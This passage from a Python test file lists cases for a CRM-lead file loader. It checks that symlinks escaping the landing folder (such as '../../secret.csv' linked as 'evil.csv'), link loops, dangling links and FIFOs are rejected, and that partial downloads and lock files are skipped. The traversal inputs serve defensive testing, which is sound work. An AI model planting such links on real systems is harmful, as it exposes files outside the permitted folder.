         {n: sf_csv([lead(i)]) for i, n in enumerate(NAMES, 1)},
         {n: Loaded("crm_leads", 1, 1) for n in NAMES}),
    Case("symlink_out_of_landing", "a link ../../secret.csv pointing outside the landing folder", {},
         {"evil.csv": Rejected(("outside the landing folder",))}, setup=_link("{outside}/secret.csv", "evil.csv")),
    Case("relative_traversal_link", "a relative link '../outside/secret.csv'", {},
         {"up.csv": Rejected(("outside the landing folder",))}, setup=_link("../outside/secret.csv", "up.csv")),
    Case("symlinked_folder_out_of_landing", "a link to a folder outside the landing folder", {},
         {"shared": Rejected(("outside the landing folder",))}, setup=_dir_link),
    Case("symlink_loop", "two links pointing at each other", {},
         {"a.csv": Rejected(("loop",)), "b.csv": Rejected(("loop",))}, setup=_loop),
    Case("dangling_symlink", "a link to a file that does not exist", {},
         {"gone.csv": Rejected(("does not exist",))}, setup=_link("nothing.csv", "gone.csv")),
    Case("named_pipe", "a FIFO named Lead.csv (reading it would block forever)", {},
         {"Lead.csv": Rejected(("not a regular file",))}, setup=_fifo),
    Case("partial_and_lock_files", "a browser's partial download, Office and LibreOffice lock files",
         {"Lead.csv.crdownload": sf_csv(leads(2)), "~$Lead.xlsx": b"lock", ".~lock.Lead.csv#": "lock"},
         {"Lead.csv.crdownload": Skipped("partial download; loaded when complete"),
          "~$Lead.xlsx": Skipped("Office lock file"), ".~lock.Lead.csv#": Skipped("hidden file")}),
]
